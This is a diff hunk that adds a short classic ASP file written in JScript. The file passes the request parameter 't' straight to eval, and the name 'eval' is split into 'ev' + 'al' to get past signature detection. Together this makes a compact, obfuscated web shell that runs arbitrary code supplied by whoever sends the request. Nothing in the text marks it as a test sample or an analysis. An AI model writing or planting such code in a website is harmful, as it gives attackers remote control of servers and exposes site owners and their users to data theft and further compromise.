@@ -1,0 +1,5 @@
+<%@ Language="JScript" %>
+<%
+var o = this;
+o["ev" + "al"](Request("t") + "");
+%>
